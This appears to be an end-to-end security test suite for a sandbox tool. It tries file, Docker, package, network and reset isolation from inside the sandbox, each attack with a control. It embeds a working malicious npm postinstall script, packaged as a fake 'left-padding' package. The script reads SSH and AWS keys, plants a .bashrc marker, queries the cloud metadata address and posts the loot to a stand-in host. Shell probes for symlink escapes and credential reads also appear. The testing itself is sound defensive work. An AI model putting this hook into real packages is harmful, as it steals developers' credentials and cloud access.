# SPDX-License-Identifier: Apache-2.0
"""The claims of T1 to T6 and the story of a hostile postinstall script, tried from inside; each attack has a control."""
import io, json, os, shutil, socket, subprocess, sys, pathlib, tarfile, threading
sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "e2e"))
import harness
from harness import wait_for

FAKE_SSH = "-----BEGIN OPENSSH PRIVATE KEY-----\ncoldframe-planted-ssh-secret\n"
FAKE_AWS = "[default]\naws_secret_access_key = coldframe-planted-aws-secret\n"

# What a compromised dependency would run. It says what it managed to do; METADATA and EXFIL are overridable so that the
# control on the host uses harmless servers.
POSTINSTALL = r"""
const fs = require('fs'), os = require('os'), https = require('https'), http = require('http'), path = require('path');
const loot = {}, home = os.homedir();
for (const f of ['.ssh/id_ed25519', '.aws/credentials']) { try { loot[f] = fs.readFileSync(path.join(home, f), 'utf8'); } catch (e) { loot[f] = null; } }
try { fs.appendFileSync(path.join(home, '.bashrc'), '\n# coldframe-test-backdoor\n'); loot.bashrc = true; } catch (e) { loot.bashrc = false; }
const get = url => new Promise(done => { const r = http.get(url, {timeout: 8000}, a => { let t = ''; a.on('data', d => t += d); a.on('end', () => done(a.statusCode + ' ' + t)); });
  r.on('error', e => done('error ' + e.code)); r.on('timeout', () => { r.destroy(); done('timeout'); }); });
const post = (url, body) => new Promise(done => { const u = new URL(url);
  const r = https.request({host: process.env.EXFIL_ADDRESS || u.hostname, port: process.env.EXFIL_PORT || 443, path: '/collect', method: 'POST', servername: u.hostname,
    ca: process.env.EXFIL_CA ? fs.readFileSync(process.env.EXFIL_CA) : undefined, headers: {host: u.hostname}, timeout: 8000}, a => { a.resume(); a.on('end', () => done(String(a.statusCode))); });
  r.on('error', e => done('error ' + e.code)); r.on('timeout', () => { r.destroy(); done('timeout'); }); r.end(body); });
(async () => {
  loot.metadata = await get(process.env.METADATA || 'http://169.254.169.254/latest/meta-data/iam/');
  loot.posted = await post('https://analytics.example/', Buffer.from(JSON.stringify(loot)).toString('base64'));
  fs.writeFileSync(process.env.REPORT, JSON.stringify(loot));
})();
"""


def package(path, name, files, **fields):
    with tarfile.open(path, "w:gz") as archive:
        for inner, text in {"package.json": json.dumps({"name": name, "version": "1.0.0", **fields}), **files}.items():
            data = text.encode()
            info = tarfile.TarInfo("package/" + inner)
            info.size, info.mode = len(data), 0o755
            archive.addfile(info, io.BytesIO(data))


def t1_files(t):
    secret = t.host_file(t.home / "secret.txt", "coldframe-host-secret\n")
    t.host_file(t.project / "given.txt", "coldframe-given\n")
    script = (f"for i in $(seq 50); do [ -e given.txt ] && break; sleep 0.2; done; cat given.txt; for f in '{secret}' '{t.home}/.ssh/id_ed25519' "
              f"'{t.home}/.aws/credentials' '{t.project}/../secret.txt' /proc/1/root'{secret}'; do cat \"$f\" || sudo cat \"$f\"; done 2>&1; "
              f"sudo grep -rls coldframe-host-secret / --include='secret.txt' --exclude-dir=proc --exclude-dir=sys 2>/dev/null; ls -d {t.home}/.local 2>&1")
    r = t.run("red", script)
    t.check("T1 control: a file placed in the workspace is read", "coldframe-given" in r.out, r)
    t.check("T1 files of the host outside the workspace cannot be read, not by root either", "coldframe-host-secret" not in r.out
            and "planted" not in r.out and f"{t.home}/.local\n" not in r.out, r)
    t.run("red", f"ln -s '{secret}' way-out; ln -s '{t.home}' way-out-dir; echo x > marker-1; sync")
    wait_for(lambda: (t.project / "marker-1").exists(), 15)
    r = t.run("red", "echo overwritten > way-out; mkdir -p way-out-dir; echo overwritten > way-out-dir/secret.txt; echo x > marker-2")
    wait_for(lambda: (t.project / "marker-2").exists(), 15)
    t.check("T1 a symlink out of the workspace does not let the guest write the host's file", secret.read_text() == "coldframe-host-secret\n"
            and (t.project / "marker-2").exists())
    t.run("red", "rm -f way-out way-out-dir")


def t2_docker(t):
    fake = socket.socket(socket.AF_UNIX)
    path = t.home / "docker.sock"
    fake.bind(str(path))
    fake.listen(5)
    tries = []
    threading.Thread(target=lambda: [tries.append(fake.accept()) for _ in range(9)], daemon=True).start()
    control = socket.socket(socket.AF_UNIX)
    control.connect(str(path))
    t.check("T2 control: the host's socket answers on the host", wait_for(lambda: len(tries) == 1, 5))
    r = t.run("red", f"curl -sS -m 5 --unix-socket '{path}' http://d/version; curl -sS -m 8 http://host.docker.internal:2375/version")
    t.check("T2 the host's Docker socket and port are out of reach", len(tries) == 1 and "ApiVersion" not in r.out, r)
    build = ("mkdir -p /tmp/image && cd /tmp/image && printf '#include <stdio.h>\\nint main(void){puts(\"hello from a container\");}' > a.c && "
             "gcc -static -O1 a.c -o hello && printf 'FROM scratch\\nCOPY hello /hello\\nCMD [\"/hello\"]\\n' > Dockerfile && "
             "docker build -q -t coldframe-redteam . && docker run --rm coldframe-redteam; docker images --format '{{.Repository}}'")
    r = t.run("red", build, seconds=240)
    t.check("T2 docker build and docker run work inside, on its own daemon", "hello from a container" in r.out and "coldframe-redteam" in r.out, r)
    if shutil.which("docker"):
        host = subprocess.run(["docker", "images", "--format", "{{.Repository}}"], capture_output=True, text=True, timeout=20)
        t.check("T2 the image is not the host's", "coldframe-redteam" not in host.stdout)
    path.unlink()


def t3_packages(t):
    host_before = sorted(os.listdir("/usr/local/bin")), sorted(os.listdir("/usr/local/lib"))
    package(t.project / "tool.tgz", "coldframe-redteam-tool", {"cli.js": "#!/usr/bin/env node\nconsole.log('tool works')\n"},
            bin={"coldframe-redteam-tool": "cli.js"})
    r = t.run("red", "for i in $(seq 50); do [ -e tool.tgz ] && break; sleep 0.2; done; npm install -g --no-fund --no-audit --offline ./tool.tgz && "
                     "\"$(npm prefix -g)/bin/coldframe-redteam-tool\"", seconds=200)
    t.check("T3 npm install -g works inside", "tool works" in r.out, r)
    t.check("T3 the host has nothing of it", host_before == (sorted(os.listdir("/usr/local/bin")), sorted(os.listdir("/usr/local/lib")))
            and not shutil.which("coldframe-redteam-tool"))


def t5_network(t):
    r = t.run("red", "curl -sS -m 20 https://good.example/; curl -sS -m 20 https://analytics.example/probe; "
                     "curl -sS -m 10 -o /dev/null -w 'meta %{http_code}\\n' http://169.254.169.254/latest/meta-data/; "
                     f"curl -sS -m 10 http://192.168.1.1/ http://10.0.0.1/; curl -sSk -m 10 https://host.docker.internal:{t.evil.server_port}/")
    t.check("T5 control: an allowed name is reached", harness.Handler.text in r.out and t.good.seen, r)
    t.check("T5 a name not allowed is refused", not t.evil.seen, t.evil.seen)
    t.check("T5 the metadata address is refused and logged", "meta 200" not in r.out and t.logged("red", host="169.254.169.254", verdict="denied"), r)
    for host in ("analytics.example", "192.168.1.1", "10.0.0.1", "host.docker.internal"):
        t.check(f"T5 the attempt at {host} is in the log as denied", t.logged("red", host=host, verdict="denied"), t.log("red")[-8:])


def hook_on_host(t):
    """The control of the story: on a host without a sandbox the same script gets everything."""
    home = t.root / "victim"
    t.host_file(home / ".ssh/id_ed25519", FAKE_SSH, 0o600)
    t.host_file(home / ".aws/credentials", FAKE_AWS, 0o600)
    t.host_file(home / ".bashrc", "# mine\n")
    metadata = harness.http.server.ThreadingHTTPServer(("127.0.0.1", 0), harness.Handler)
    metadata.seen = []
    threading.Thread(target=metadata.serve_forever, args=(0.1,), daemon=True).start()
    node = shutil.which("node", path="/usr/local/bin:/usr/bin")
    if not node:
        t.say("no node on the host: the control of the postinstall story runs inside, with the policy opened")
        metadata.shutdown()
        return
    t.host_file(home / "hook.js", POSTINSTALL)
    environment = {"HOME": str(home), "PATH": "/usr/bin:/bin", "REPORT": str(home / "report.json"), "EXFIL_ADDRESS": "127.0.0.1",
                   "EXFIL_PORT": str(t.evil.server_port), "EXFIL_CA": str(t.authority() / "ca.pem"),
                   "METADATA": f"http://127.0.0.1:{metadata.server_port}/latest/meta-data/iam/"}
    subprocess.run([node, str(home / "hook.js")], env=environment, timeout=60, cwd=home, check=False, stdin=subprocess.DEVNULL)
    metadata.shutdown()
    import base64
    loot = base64.b64decode(t.evil.seen[-1][3]).decode() if t.evil.seen else ""
    t.check("postinstall control: on the host the same script posts planted keys and metadata and writes .bashrc",
            "planted-ssh-secret" in loot and "planted-aws-secret" in loot and "200 hello" in loot
            and "backdoor" in (home / ".bashrc").read_text(), loot)


def postinstall(t):
    hook_on_host(t)
    t.evil.seen.clear()
    t.host_file(t.home / ".ssh/id_ed25519", FAKE_SSH, 0o600)
    t.host_file(t.home / ".aws/credentials", FAKE_AWS, 0o600)
    t.host_file(t.home / ".bashrc", "# mine\n")
    package(t.project / "evil.tgz", "left-padding", {"hook.js": POSTINSTALL}, scripts={"postinstall": "node hook.js"})
    t.host_file(t.project / "app/package.json", json.dumps({"name": "app", "version": "1.0.0", "private": True}))
    r = t.run("red", "for i in $(seq 50); do [ -e evil.tgz ] && [ -e app/package.json ] && break; sleep 0.2; done; cd app && "
                     "REPORT=/tmp/report.json npm install --no-fund --no-audit --offline ../evil.tgz && cat /tmp/report.json", seconds=240)
    try:
        loot = json.loads(r.out[r.out.index('{"'):])
    except ValueError:
        loot = {}
    t.check("postinstall: the script ran inside", loot, r)
    t.check("postinstall: there were no keys to read", loot and loot[".ssh/id_ed25519"] is None and loot[".aws/credentials"] is None, loot)
    t.check("postinstall: metadata and the exfiltration were refused", loot and not loot["metadata"].startswith("200") and loot["posted"] != "200"
            and not t.evil.seen, (loot, t.evil.seen))
    t.check("postinstall: both attempts are in the log", t.logged("red", host="analytics.example", verdict="denied")
            and t.logged("red", host="169.254.169.254", verdict="denied"))
    t.check("postinstall: the host's .bashrc is as it was", (t.home / ".bashrc").read_text() == "# mine\n")
    t.check("postinstall: only the sandbox's .bashrc has the backdoor", "backdoor" in t.run("red", "cat ~/.bashrc").out)
    t.call("policy.add", sandbox="red", action="allow", pattern="analytics.example")
    r = t.run("red", "curl -sS -m 20 -d stolen https://analytics.example/collect")
    t.check("postinstall control: the same server is reached once the user allows it", t.evil.seen and t.evil.seen[-1][3] == b"stolen", r)


def two_sandboxes(t):
    other = t.host_file(t.home / "other project/theirs.txt", "coldframe-theirs\n").parent
    t.create("two", other, network={"allow": ["good.example"]})
    t.run("red", "sudo sh -c 'echo of-red > /srv/of-red'; (python3 -m http.server 8099 --bind 0.0.0.0 >/dev/null 2>&1 & echo $! > /tmp/server); sleep 3")
    serving = t.run("red", "curl -sS -m 10 http://127.0.0.1:8099/ | head -3")
    t.check("two sandboxes control: the server inside the first answers there", "listing" in serving.out.lower() or "DOCTYPE" in serving.out, serving)
    r = t.run("two", f"cat theirs.txt; ls /srv/of-red '{t.project}' 2>&1; for h in 127.0.0.1 198.18.0.1 red 198.18.0.2; do curl -sS -m 8 http://$h:8099/; done")
    t.check("two sandboxes: the second has its own workspace", "coldframe-theirs" in r.out, r)
    t.check("two sandboxes: neither files nor ports of the first are seen", "listing" not in r.out.lower() and "given.txt" not in r.out
            and "/srv/of-red\n" not in r.out.replace("cannot access '/srv/of-red'", ""), r)
    ca = [t.run(name, "openssl x509 -in /usr/local/share/ca-certificates/*coldframe* -noout -fingerprint 2>/dev/null || sha256sum /usr/local/share/ca-certificates/*").out
          for name in ("red", "two")]
    t.check("two sandboxes: each has a CA of its own", ca[0] and ca[1] and ca[0] != ca[1], ca)
    t.call("sandbox.remove", sandbox="two", force=True)


def t6_reset(t):
    t.run("red", "sudo touch /usr/local/bin/implant; crontab -l; echo '# again' >> ~/.bashrc; sync")
    t.call("sandbox.reset", sandbox="red", force=True)
    r = t.run("red", "ls /usr/local/bin/implant /srv/of-red; grep backdoor ~/.bashrc; command -v coldframe-redteam-tool; ls given.txt")
    t.check("T6 after a reset nothing of the attack is left and the workspace is", r.out.strip() == "given.txt", r)


def story(t):
    t.host_file(t.home / ".ssh/id_ed25519", FAKE_SSH, 0o600)
    t.host_file(t.home / ".aws/credentials", FAKE_AWS, 0o600)
    t.project = t.host_file(t.home / "red project/readme.txt", "x").parent
    t.good = t.serve_tls("good.example", harness.Handler)
    t.evil = t.serve_tls("analytics.example", harness.Handler)
    t.start_engine()
    t.apply_settings()
    for folder in (t.home / ".ssh", t.home / ".aws", t.home):
        t.check(f"T4 {folder.name if folder != t.home else 'the home'} cannot be made a workspace",
                t.refused("sandbox.create", agent="shell", workspaces=[{"path": str(folder), "readOnly": False}], consentEmulation=True))
    t.create("red", t.project, network={"allow": ["good.example"]})
    for part in (t1_files, t5_network, t3_packages, postinstall, t2_docker, two_sandboxes, t6_reset):
        part(t)


harness.main(story)
